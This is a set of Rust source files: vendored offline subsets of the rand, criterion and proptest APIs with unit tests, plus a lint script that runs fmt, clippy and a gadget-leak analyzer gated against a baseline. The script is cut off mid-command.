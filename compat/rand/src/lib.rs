//! Offline drop-in subset of the `rand` 0.8 API.
//!
//! The build environment has no access to crates.io, so the workspace
//! vendors the small slice of `rand` it actually uses: [`rngs::StdRng`],
//! [`SeedableRng::seed_from_u64`], [`Rng::gen_range`], [`Rng::gen_bool`]
//! and [`seq::SliceRandom::shuffle`]. The backend is SplitMix64 — fully
//! deterministic for a given seed, which is all the reproduction needs
//! (every caller seeds explicitly).

#![warn(missing_docs)]

use std::ops::Range;

/// Low-level uniform bit source.
pub trait RngCore {
    /// Returns the next 64 uniformly distributed bits.
    fn next_u64(&mut self) -> u64;
}

/// Seedable RNG construction.
pub trait SeedableRng: Sized {
    /// Creates an RNG from a 64-bit seed.
    fn seed_from_u64(seed: u64) -> Self;
}

/// User-facing sampling methods, blanket-implemented for every [`RngCore`].
pub trait Rng: RngCore {
    /// Samples uniformly from `range` (half-open).
    fn gen_range<T, R>(&mut self, range: R) -> T
    where
        R: SampleRange<T>,
        Self: Sized,
    {
        range.sample_from(self)
    }

    /// Returns `true` with probability `p`.
    fn gen_bool(&mut self, p: f64) -> bool
    where
        Self: Sized,
    {
        next_f64(self) < p
    }
}

impl<T: RngCore> Rng for T {}

/// Uniform `[0, 1)` double from the top 53 bits.
fn next_f64<R: RngCore + ?Sized>(rng: &mut R) -> f64 {
    (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
}

/// A range that can be sampled to produce a `T`.
pub trait SampleRange<T> {
    /// Draws one uniform sample.
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

macro_rules! impl_int_range {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for Range<$t> {
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "empty gen_range");
                let span = (self.end as i128 - self.start as i128) as u128;
                let v = (rng.next_u64() as u128) % span;
                (self.start as i128 + v as i128) as $t
            }
        }
    )*};
}

impl_int_range!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! impl_float_range {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for Range<$t> {
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "empty gen_range");
                self.start + (self.end - self.start) * next_f64(rng) as $t
            }
        }
    )*};
}

impl_float_range!(f32, f64);

/// Named RNG types.
pub mod rngs {
    use super::{RngCore, SeedableRng};

    /// The standard RNG: a deterministic SplitMix64 generator.
    #[derive(Debug, Clone)]
    pub struct StdRng {
        state: u64,
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(seed: u64) -> Self {
            Self { state: seed }
        }
    }

    impl RngCore for StdRng {
        fn next_u64(&mut self) -> u64 {
            self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
            let mut z = self.state;
            z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
            z ^ (z >> 31)
        }
    }
}

/// Sequence-related helpers.
pub mod seq {
    use super::Rng;

    /// Extension methods for slices.
    pub trait SliceRandom {
        /// Element type.
        type Item;

        /// Shuffles the slice in place (Fisher–Yates).
        fn shuffle<R: Rng + ?Sized>(&mut self, rng: &mut R);
    }

    impl<T> SliceRandom for [T] {
        type Item = T;

        fn shuffle<R: Rng + ?Sized>(&mut self, rng: &mut R) {
            for i in (1..self.len()).rev() {
                let j = (rng.next_u64() % (i as u64 + 1)) as usize;
                self.swap(i, j);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::seq::SliceRandom;
    use super::{Rng, SeedableRng};

    #[test]
    fn deterministic_for_a_seed() {
        let mut a = StdRng::seed_from_u64(7);
        let mut b = StdRng::seed_from_u64(7);
        for _ in 0..100 {
            assert_eq!(a.gen_range(0usize..1000), b.gen_range(0usize..1000));
        }
    }

    #[test]
    fn ranges_stay_in_bounds() {
        let mut r = StdRng::seed_from_u64(1);
        for _ in 0..1000 {
            let v = r.gen_range(-5i64..7);
            assert!((-5..7).contains(&v));
            let f = r.gen_range(-0.5f64..0.5);
            assert!((-0.5..0.5).contains(&f));
        }
    }

    #[test]
    fn shuffle_is_a_permutation() {
        let mut r = StdRng::seed_from_u64(3);
        let mut v: Vec<u32> = (0..50).collect();
        v.shuffle(&mut r);
        let mut sorted = v.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, (0..50).collect::<Vec<_>>());
        assert_ne!(v, sorted, "seed 3 should not produce identity");
    }

    #[test]
    fn gen_bool_tracks_probability() {
        let mut r = StdRng::seed_from_u64(11);
        let hits = (0..10_000).filter(|_| r.gen_bool(0.2)).count();
        assert!((1500..2500).contains(&hits), "got {hits}");
    }
}
