//! Offline drop-in subset of the `criterion` 0.5 API.
//!
//! The build environment has no access to crates.io, so the workspace
//! vendors the slice of `criterion` its benches use: [`Criterion`],
//! benchmark groups, [`Bencher::iter`] / [`Bencher::iter_batched`],
//! [`Throughput`], [`BatchSize`] and the [`criterion_group!`] /
//! [`criterion_main!`] macros. Instead of criterion's statistical engine it
//! measures a wall-clock mean over a fixed measurement window and prints a
//! one-line plain-text report per benchmark.

#![warn(missing_docs)]

use std::hint;
use std::time::{Duration, Instant};

/// Opaque value barrier preventing the optimizer from deleting benchmarked
/// work.
pub fn black_box<T>(x: T) -> T {
    hint::black_box(x)
}

/// How per-iteration setup output is batched (accepted for API parity; the
/// stub runs one setup per timed routine call regardless).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BatchSize {
    /// Small routine input.
    SmallInput,
    /// Large routine input.
    LargeInput,
    /// One batch per iteration.
    PerIteration,
}

/// Units of work per iteration, for derived rate reporting.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Throughput {
    /// Elements processed per iteration.
    Elements(u64),
    /// Bytes processed per iteration.
    Bytes(u64),
}

/// Measurement driver handed to each benchmark closure.
pub struct Bencher {
    /// Mean wall-clock time per iteration, filled by `iter*`.
    mean: Duration,
    /// Iterations actually timed.
    iters: u64,
    /// Measurement window.
    budget: Duration,
}

impl Bencher {
    fn new(budget: Duration) -> Self {
        Self {
            mean: Duration::ZERO,
            iters: 0,
            budget,
        }
    }

    /// Times `routine` repeatedly until the measurement window closes.
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        // Warmup + calibration round.
        let start = Instant::now();
        black_box(routine());
        let probe = start.elapsed().max(Duration::from_nanos(1));
        let target = (self.budget.as_nanos() / probe.as_nanos()).clamp(1, 1_000_000) as u64;
        let start = Instant::now();
        for _ in 0..target {
            black_box(routine());
        }
        let total = start.elapsed();
        self.iters = target;
        self.mean = total / target as u32;
    }

    /// Times `routine` on fresh inputs from `setup`; setup time is excluded.
    pub fn iter_batched<I, O, S, R>(&mut self, mut setup: S, mut routine: R, _size: BatchSize)
    where
        S: FnMut() -> I,
        R: FnMut(I) -> O,
    {
        // Calibration round.
        let input = setup();
        let start = Instant::now();
        black_box(routine(input));
        let probe = start.elapsed().max(Duration::from_nanos(1));
        let target = (self.budget.as_nanos() / probe.as_nanos()).clamp(1, 1_000_000) as u64;
        let mut total = Duration::ZERO;
        for _ in 0..target {
            let input = setup();
            let start = Instant::now();
            black_box(routine(input));
            total += start.elapsed();
        }
        self.iters = target;
        self.mean = total / target as u32;
    }
}

fn fmt_duration(d: Duration) -> String {
    let ns = d.as_nanos();
    if ns < 1_000 {
        format!("{ns} ns")
    } else if ns < 1_000_000 {
        format!("{:.2} µs", ns as f64 / 1e3)
    } else if ns < 1_000_000_000 {
        format!("{:.2} ms", ns as f64 / 1e6)
    } else {
        format!("{:.2} s", ns as f64 / 1e9)
    }
}

fn report(name: &str, b: &Bencher, throughput: Option<Throughput>) {
    let mut line = format!(
        "{name:<40} time: {:>12}/iter ({} iters)",
        fmt_duration(b.mean),
        b.iters
    );
    if let Some(t) = throughput {
        let secs = b.mean.as_secs_f64().max(1e-12);
        match t {
            Throughput::Elements(n) => {
                line.push_str(&format!("  thrpt: {:.3} Melem/s", n as f64 / secs / 1e6));
            }
            Throughput::Bytes(n) => {
                line.push_str(&format!(
                    "  thrpt: {:.3} MiB/s",
                    n as f64 / secs / (1 << 20) as f64
                ));
            }
        }
    }
    println!("{line}");
}

/// A named group of benchmarks sharing throughput/sample settings.
pub struct BenchmarkGroup<'a> {
    criterion: &'a mut Criterion,
    name: String,
    throughput: Option<Throughput>,
}

impl BenchmarkGroup<'_> {
    /// Sets the per-iteration work for rate reporting.
    pub fn throughput(&mut self, t: Throughput) {
        self.throughput = Some(t);
    }

    /// Accepted for API parity; the stub sizes runs by wall-clock budget.
    pub fn sample_size(&mut self, _n: usize) {}

    /// Runs one benchmark in the group.
    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, id: &str, mut f: F) {
        let mut b = Bencher::new(self.criterion.measurement_time);
        f(&mut b);
        report(&format!("{}/{id}", self.name), &b, self.throughput);
    }

    /// Ends the group.
    pub fn finish(self) {}
}

/// Top-level benchmark harness.
pub struct Criterion {
    measurement_time: Duration,
}

impl Default for Criterion {
    fn default() -> Self {
        // Keep runs short: the stub is for smoke-level numbers, and CI
        // builds benches with --all-targets where speed matters.
        let ms = std::env::var("CRITERION_STUB_MS")
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(200);
        Self {
            measurement_time: Duration::from_millis(ms),
        }
    }
}

impl Criterion {
    /// Starts a named benchmark group.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            criterion: self,
            name: name.into(),
            throughput: None,
        }
    }

    /// Runs a single ungrouped benchmark.
    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, id: &str, mut f: F) -> &mut Self {
        let mut b = Bencher::new(self.measurement_time);
        f(&mut b);
        report(id, &b, None);
        self
    }
}

/// Declares a function running the listed benchmark functions.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        fn $name() {
            let mut c = $crate::Criterion::default();
            $($target(&mut c);)+
        }
    };
}

/// Declares `main` for a bench binary (`harness = false`).
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $($group();)+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn iter_measures_something() {
        let mut b = Bencher::new(Duration::from_millis(5));
        // black_box inside the loop keeps the routine from collapsing to a
        // closed form whose integer-truncated mean rounds to zero.
        b.iter(|| {
            let mut x = 0u64;
            for i in 0..256 {
                x = black_box(x.wrapping_mul(6364136223846793005).wrapping_add(i));
            }
            x
        });
        assert!(b.iters >= 1);
        assert!(b.mean > Duration::ZERO);
    }

    #[test]
    fn iter_batched_excludes_setup() {
        let mut b = Bencher::new(Duration::from_millis(5));
        b.iter_batched(
            || vec![1u8; 64],
            |v| v.iter().map(|&x| x as u64).sum::<u64>(),
            BatchSize::SmallInput,
        );
        assert!(b.iters >= 1);
    }

    #[test]
    fn groups_run_and_report() {
        let mut c = Criterion {
            measurement_time: Duration::from_millis(2),
        };
        let mut g = c.benchmark_group("g");
        g.throughput(Throughput::Elements(10));
        g.bench_function("noop", |b| b.iter(|| black_box(1 + 1)));
        g.finish();
    }
}
