//! Collection strategies: `vec`, `btree_set`, `btree_map`.

use std::collections::{BTreeMap, BTreeSet};
use std::ops::{Range, RangeInclusive};

use crate::strategy::Strategy;
use crate::test_runner::TestRng;

/// A target size (or size range) for a generated collection.
#[derive(Debug, Clone)]
pub struct SizeRange {
    lo: usize,
    hi: usize, // inclusive
}

impl SizeRange {
    fn pick(&self, rng: &mut TestRng) -> usize {
        self.lo + rng.next_index(self.hi - self.lo + 1)
    }
}

impl From<usize> for SizeRange {
    fn from(n: usize) -> Self {
        Self { lo: n, hi: n }
    }
}

impl From<Range<usize>> for SizeRange {
    fn from(r: Range<usize>) -> Self {
        assert!(r.start < r.end, "empty collection size range");
        Self {
            lo: r.start,
            hi: r.end - 1,
        }
    }
}

impl From<RangeInclusive<usize>> for SizeRange {
    fn from(r: RangeInclusive<usize>) -> Self {
        assert!(r.start() <= r.end(), "empty collection size range");
        Self {
            lo: *r.start(),
            hi: *r.end(),
        }
    }
}

/// Strategy producing a `Vec` of values from an element strategy.
#[derive(Debug, Clone)]
pub struct VecStrategy<S> {
    element: S,
    size: SizeRange,
}

impl<S: Strategy> Strategy for VecStrategy<S> {
    type Value = Vec<S::Value>;

    fn new_value(&self, rng: &mut TestRng) -> Self::Value {
        let n = self.size.pick(rng);
        (0..n).map(|_| self.element.new_value(rng)).collect()
    }
}

/// Generates a `Vec` whose length is drawn from `size`.
pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
    VecStrategy {
        element,
        size: size.into(),
    }
}

/// Strategy producing a `BTreeSet`; duplicates are retried a bounded number
/// of times, so the set may come out smaller than requested when the
/// element domain is nearly exhausted.
#[derive(Debug, Clone)]
pub struct BTreeSetStrategy<S> {
    element: S,
    size: SizeRange,
}

impl<S: Strategy> Strategy for BTreeSetStrategy<S>
where
    S::Value: Ord,
{
    type Value = BTreeSet<S::Value>;

    fn new_value(&self, rng: &mut TestRng) -> Self::Value {
        let n = self.size.pick(rng);
        let mut out = BTreeSet::new();
        let mut attempts = 0;
        while out.len() < n && attempts < n * 10 + 32 {
            out.insert(self.element.new_value(rng));
            attempts += 1;
        }
        out
    }
}

/// Generates a `BTreeSet` with approximately `size` distinct elements.
pub fn btree_set<S: Strategy>(element: S, size: impl Into<SizeRange>) -> BTreeSetStrategy<S>
where
    S::Value: Ord,
{
    BTreeSetStrategy {
        element,
        size: size.into(),
    }
}

/// Strategy producing a `BTreeMap` (see [`btree_map`]).
#[derive(Debug, Clone)]
pub struct BTreeMapStrategy<K, V> {
    key: K,
    value: V,
    size: SizeRange,
}

impl<K: Strategy, V: Strategy> Strategy for BTreeMapStrategy<K, V>
where
    K::Value: Ord,
{
    type Value = BTreeMap<K::Value, V::Value>;

    fn new_value(&self, rng: &mut TestRng) -> Self::Value {
        let n = self.size.pick(rng);
        let mut out = BTreeMap::new();
        let mut attempts = 0;
        while out.len() < n && attempts < n * 10 + 32 {
            out.insert(self.key.new_value(rng), self.value.new_value(rng));
            attempts += 1;
        }
        out
    }
}

/// Generates a `BTreeMap` with approximately `size` distinct keys.
pub fn btree_map<K: Strategy, V: Strategy>(
    key: K,
    value: V,
    size: impl Into<SizeRange>,
) -> BTreeMapStrategy<K, V>
where
    K::Value: Ord,
{
    BTreeMapStrategy {
        key,
        value,
        size: size.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::strategy::any;

    #[test]
    fn vec_respects_size_range() {
        let mut rng = TestRng::for_test("vecsize");
        let s = vec(0u8..10, 3..7);
        for _ in 0..200 {
            let v = s.new_value(&mut rng);
            assert!((3..7).contains(&v.len()), "len {}", v.len());
            assert!(v.iter().all(|&x| x < 10));
        }
    }

    #[test]
    fn exact_size_is_exact() {
        let mut rng = TestRng::for_test("exact");
        let s = vec(any::<u64>(), 4);
        assert_eq!(s.new_value(&mut rng).len(), 4);
    }

    #[test]
    fn sets_and_maps_reach_requested_sizes() {
        let mut rng = TestRng::for_test("setmap");
        let s = btree_set(0i32..1000, 2..30);
        for _ in 0..50 {
            assert!(s.new_value(&mut rng).len() >= 2);
        }
        let m = btree_map(0i32..200, any::<bool>(), 2..40);
        for _ in 0..50 {
            assert!(m.new_value(&mut rng).len() >= 2);
        }
    }
}
