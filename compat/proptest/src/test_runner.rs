//! The deterministic RNG and case-level error type behind [`crate::proptest!`].

/// Why a generated case did not pass.
#[derive(Debug, Clone)]
pub enum TestCaseError {
    /// The case was rejected by `prop_assume!` — skip it, not a failure.
    Reject,
    /// An assertion failed with this message.
    Fail(String),
}

/// Deterministic SplitMix64 generator seeding each test from its name.
#[derive(Debug, Clone)]
pub struct TestRng {
    state: u64,
}

impl TestRng {
    /// Creates the RNG for a named test (FNV-1a over the name).
    pub fn for_test(name: &str) -> Self {
        let mut h = 0xcbf2_9ce4_8422_2325u64;
        for b in name.bytes() {
            h ^= b as u64;
            h = h.wrapping_mul(0x0000_0100_0000_01b3);
        }
        Self { state: h }
    }

    /// Next 64 uniform bits.
    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Uniform `[0, 1)` double.
    pub fn next_f64(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }

    /// Uniform index in `0..bound` (`bound` must be nonzero).
    pub fn next_index(&mut self, bound: usize) -> usize {
        assert!(bound > 0, "next_index bound must be nonzero");
        (self.next_u64() % bound as u64) as usize
    }
}

#[cfg(test)]
mod tests {
    use super::TestRng;

    #[test]
    fn named_seeds_are_stable_and_distinct() {
        let mut a = TestRng::for_test("alpha");
        let mut b = TestRng::for_test("alpha");
        let mut c = TestRng::for_test("beta");
        assert_eq!(a.next_u64(), b.next_u64());
        assert_ne!(a.next_u64(), c.next_u64());
    }

    #[test]
    fn next_index_stays_in_bounds() {
        let mut r = TestRng::for_test("idx");
        for _ in 0..1000 {
            assert!(r.next_index(7) < 7);
        }
    }
}
