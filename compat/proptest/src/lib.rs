//! Offline drop-in subset of the `proptest` 1.x API.
//!
//! The build environment has no access to crates.io, so the workspace
//! vendors the slice of `proptest` its test suites use: the [`proptest!`]
//! macro, [`Strategy`] with [`Strategy::prop_map`], numeric-range and tuple
//! strategies, [`any`], [`Just`], [`prop_oneof!`], the [`collection`]
//! combinators, and the `prop_assert*` / [`prop_assume!`] macros.
//!
//! Differences from the real crate: cases are generated from a
//! deterministic per-test seed (derived from the test name), there is no
//! shrinking, and `proptest-regressions` files are not consulted. Failures
//! print the generated inputs via the assertion message instead of a
//! minimized counterexample.

#![warn(missing_docs)]

pub mod collection;
pub mod strategy;
pub mod test_runner;

pub use strategy::{any, Any, Arbitrary, BoxedStrategy, Just, Map, Strategy, Union};
pub use test_runner::{TestCaseError, TestRng};

/// Commonly used items, mirroring `proptest::prelude`.
pub mod prelude {
    pub use crate::strategy::{any, Any, Arbitrary, BoxedStrategy, Just, Strategy, Union};
    pub use crate::test_runner::{TestCaseError, TestRng};
    pub use crate::ProptestConfig;
    pub use crate::{
        prop_assert, prop_assert_eq, prop_assert_ne, prop_assume, prop_oneof, proptest,
    };
    /// Namespace alias mirroring `proptest::prelude::prop`.
    pub mod prop {
        pub use crate::collection;
    }
}

/// Per-test configuration.
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    /// Number of generated cases per test.
    pub cases: u32,
}

impl ProptestConfig {
    /// A configuration running `cases` cases per test.
    pub fn with_cases(cases: u32) -> Self {
        Self { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> Self {
        Self { cases: 64 }
    }
}

/// Declares property-based tests.
///
/// Each `#[test] fn name(arg in strategy, ...) { body }` item expands to an
/// ordinary test that generates `config.cases` inputs and runs the body for
/// each. The body may use `prop_assert*!` and `prop_assume!`.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($config:expr)] $($rest:tt)*) => {
        $crate::__proptest_impl!(($config) $($rest)*);
    };
    ($($rest:tt)*) => {
        $crate::__proptest_impl!(($crate::ProptestConfig::default()) $($rest)*);
    };
}

/// Implementation detail of [`proptest!`].
#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_impl {
    (($config:expr) $( $(#[$meta:meta])* fn $name:ident ( $($arg:ident in $strat:expr),+ $(,)? ) $body:block )*) => {
        $(
            $(#[$meta])*
            fn $name() {
                let config: $crate::ProptestConfig = $config;
                let mut rng = $crate::test_runner::TestRng::for_test(stringify!($name));
                for case in 0..config.cases {
                    $(let $arg = $crate::Strategy::new_value(&$strat, &mut rng);)+
                    let outcome: ::std::result::Result<(), $crate::test_runner::TestCaseError> =
                        (|| { { $body } ::std::result::Result::Ok(()) })();
                    match outcome {
                        ::std::result::Result::Ok(()) => {}
                        ::std::result::Result::Err($crate::test_runner::TestCaseError::Reject) => {}
                        ::std::result::Result::Err($crate::test_runner::TestCaseError::Fail(msg)) => {
                            panic!("proptest case {case} failed: {msg}");
                        }
                    }
                }
            }
        )*
    };
}

/// Asserts a condition, failing the current case (not the whole process)
/// with an optional formatted message.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        $crate::prop_assert!($cond, concat!("assertion failed: ", stringify!($cond)));
    };
    ($cond:expr, $($fmt:tt)*) => {
        if !($cond) {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Fail(
                format!($($fmt)*),
            ));
        }
    };
}

/// Asserts two expressions are equal.
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(l == r, "assertion failed: {:?} == {:?}", l, r);
    }};
    ($left:expr, $right:expr, $($fmt:tt)*) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(l == r, "{}: {:?} != {:?}", format!($($fmt)*), l, r);
    }};
}

/// Asserts two expressions are unequal.
#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr $(,)?) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(l != r, "assertion failed: {:?} != {:?}", l, r);
    }};
    ($left:expr, $right:expr, $($fmt:tt)*) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(l != r, "{}: {:?} == {:?}", format!($($fmt)*), l, r);
    }};
}

/// Rejects the current case (skips it) when the assumption does not hold.
#[macro_export]
macro_rules! prop_assume {
    ($cond:expr) => {
        if !($cond) {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Reject);
        }
    };
}

/// Strategy union: picks one of the listed strategies uniformly per case.
#[macro_export]
macro_rules! prop_oneof {
    ($($strat:expr),+ $(,)?) => {
        $crate::Union::new(vec![$($crate::strategy::boxed($strat)),+])
    };
}
