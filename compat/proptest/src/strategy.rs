//! Value-generation strategies: ranges, tuples, [`any`], [`Just`],
//! [`Map`] and [`Union`].

use std::marker::PhantomData;
use std::ops::{Range, RangeInclusive};

use crate::test_runner::TestRng;

/// Generates values of an associated type from a [`TestRng`].
///
/// Unlike real proptest there is no value tree / shrinking; a strategy is
/// just a pure generator.
pub trait Strategy {
    /// The type of generated values.
    type Value;

    /// Generates one value.
    fn new_value(&self, rng: &mut TestRng) -> Self::Value;

    /// Maps generated values through `f`.
    fn prop_map<U, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> U,
    {
        Map { inner: self, f }
    }
}

/// A strategy mapped through a function (see [`Strategy::prop_map`]).
#[derive(Debug, Clone)]
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S, F, U> Strategy for Map<S, F>
where
    S: Strategy,
    F: Fn(S::Value) -> U,
{
    type Value = U;

    fn new_value(&self, rng: &mut TestRng) -> U {
        (self.f)(self.inner.new_value(rng))
    }
}

/// Always generates a clone of the given value.
#[derive(Debug, Clone)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;

    fn new_value(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

/// Types with a canonical "any value" strategy.
pub trait Arbitrary: Sized {
    /// Generates an arbitrary value.
    fn arbitrary(rng: &mut TestRng) -> Self;
}

/// Strategy for an arbitrary value of `T` (see [`any`]).
#[derive(Debug)]
pub struct Any<T>(PhantomData<T>);

impl<T> Clone for Any<T> {
    fn clone(&self) -> Self {
        Any(PhantomData)
    }
}

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;

    fn new_value(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng)
    }
}

/// The strategy generating any value of `T`.
pub fn any<T: Arbitrary>() -> Any<T> {
    Any(PhantomData)
}

macro_rules! impl_arbitrary_int {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut TestRng) -> Self {
                rng.next_u64() as $t
            }
        }
    )*};
}

impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for bool {
    fn arbitrary(rng: &mut TestRng) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl Arbitrary for f64 {
    fn arbitrary(rng: &mut TestRng) -> Self {
        // Mix ordinary magnitudes with specials, as real proptest does.
        match rng.next_u64() % 16 {
            0 => f64::NAN,
            1 => f64::INFINITY,
            2 => f64::NEG_INFINITY,
            3 => 0.0,
            _ => (rng.next_f64() - 0.5) * 2e9,
        }
    }
}

impl Arbitrary for f32 {
    fn arbitrary(rng: &mut TestRng) -> Self {
        f64::arbitrary(rng) as f32
    }
}

macro_rules! impl_range_strategy_int {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;

            fn new_value(&self, rng: &mut TestRng) -> $t {
                assert!(self.start < self.end, "empty range strategy");
                let span = (self.end as i128 - self.start as i128) as u128;
                let v = (rng.next_u64() as u128) % span;
                (self.start as i128 + v as i128) as $t
            }
        }

        impl Strategy for RangeInclusive<$t> {
            type Value = $t;

            fn new_value(&self, rng: &mut TestRng) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                assert!(lo <= hi, "empty range strategy");
                let span = (hi as i128 - lo as i128) as u128 + 1;
                let v = (rng.next_u64() as u128) % span;
                (lo as i128 + v as i128) as $t
            }
        }
    )*};
}

impl_range_strategy_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! impl_range_strategy_float {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;

            fn new_value(&self, rng: &mut TestRng) -> $t {
                assert!(self.start < self.end, "empty range strategy");
                self.start + (self.end - self.start) * rng.next_f64() as $t
            }
        }
    )*};
}

impl_range_strategy_float!(f32, f64);

macro_rules! impl_tuple_strategy {
    ($($name:ident),+) => {
        impl<$($name: Strategy),+> Strategy for ($($name,)+) {
            type Value = ($($name::Value,)+);

            #[allow(non_snake_case)]
            fn new_value(&self, rng: &mut TestRng) -> Self::Value {
                let ($($name,)+) = self;
                ($($name.new_value(rng),)+)
            }
        }
    };
}

impl_tuple_strategy!(A);
impl_tuple_strategy!(A, B);
impl_tuple_strategy!(A, B, C);
impl_tuple_strategy!(A, B, C, D);
impl_tuple_strategy!(A, B, C, D, E);
impl_tuple_strategy!(A, B, C, D, E, F);

/// Object-safe strategy erasure used by [`Union`] / [`crate::prop_oneof!`].
trait DynStrategy<T> {
    fn dyn_new_value(&self, rng: &mut TestRng) -> T;
}

impl<S: Strategy> DynStrategy<S::Value> for S {
    fn dyn_new_value(&self, rng: &mut TestRng) -> S::Value {
        self.new_value(rng)
    }
}

/// A boxed, type-erased strategy.
pub struct BoxedStrategy<T>(Box<dyn DynStrategy<T>>);

impl<T> Strategy for BoxedStrategy<T> {
    type Value = T;

    fn new_value(&self, rng: &mut TestRng) -> T {
        self.0.dyn_new_value(rng)
    }
}

/// Boxes a strategy (used by [`crate::prop_oneof!`]).
pub fn boxed<S: Strategy + 'static>(s: S) -> BoxedStrategy<S::Value> {
    BoxedStrategy(Box::new(s))
}

/// Picks uniformly among several strategies per generated value.
pub struct Union<T> {
    arms: Vec<BoxedStrategy<T>>,
}

impl<T> Union<T> {
    /// Creates a union over the given arms (must be non-empty).
    pub fn new(arms: Vec<BoxedStrategy<T>>) -> Self {
        assert!(!arms.is_empty(), "prop_oneof! needs at least one arm");
        Self { arms }
    }
}

impl<T> Strategy for Union<T> {
    type Value = T;

    fn new_value(&self, rng: &mut TestRng) -> T {
        let i = rng.next_index(self.arms.len());
        self.arms[i].new_value(rng)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ranges_and_tuples_generate_in_bounds() {
        let mut rng = TestRng::for_test("bounds");
        let s = (0u8..4, -10i64..10, 0.0f64..1.0);
        for _ in 0..500 {
            let (a, b, c) = s.new_value(&mut rng);
            assert!(a < 4);
            assert!((-10..10).contains(&b));
            assert!((0.0..1.0).contains(&c));
        }
    }

    #[test]
    fn map_and_just_compose() {
        let mut rng = TestRng::for_test("map");
        let s = (0usize..5).prop_map(|v| v * 2);
        for _ in 0..100 {
            assert_eq!(s.new_value(&mut rng) % 2, 0);
        }
        assert_eq!(Just(41).new_value(&mut rng), 41);
    }

    #[test]
    fn union_covers_all_arms() {
        let mut rng = TestRng::for_test("union");
        let u = Union::new(vec![boxed(Just(1u8)), boxed(Just(2u8)), boxed(Just(3u8))]);
        let mut seen = [false; 4];
        for _ in 0..200 {
            seen[u.new_value(&mut rng) as usize] = true;
        }
        assert_eq!(&seen[1..], &[true, true, true]);
    }
}
