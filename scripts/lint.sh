#!/usr/bin/env bash
# Repo lint gate: formatting, clippy (warnings are errors), and the
# differential static/dynamic gadget analyzer over the full workload
# corpus, gated against the checked-in findings baseline.
#
# The dynamic budget (120k committed instructions per workload) is sized
# so even the 0.25x bandwidth-reduced evasion leaks its first byte within
# the window. Regenerate the baseline after an intentional analyzer change
# with:
#   cargo run --release -p uarch-analysis --bin uarch-lint -- \
#     --no-run --write-baseline crates/analysis/findings_baseline.json
set -euo pipefail
cd "$(dirname "$0")/.."

echo "==> cargo fmt --check"
cargo fmt --all --check

echo "==> cargo clippy --all-targets -- -D warnings"
cargo clippy --workspace --all-targets -- -D warnings

echo "==> uarch-lint (differential static/dynamic analysis + baseline gate)"
mkdir -p experiments
cargo run --release -p uarch-analysis --bin uarch-lint -- \
  --dynamic 120000 \
  --json experiments/lint_findings.json \
  --baseline crates/analysis/findings_baseline.json \
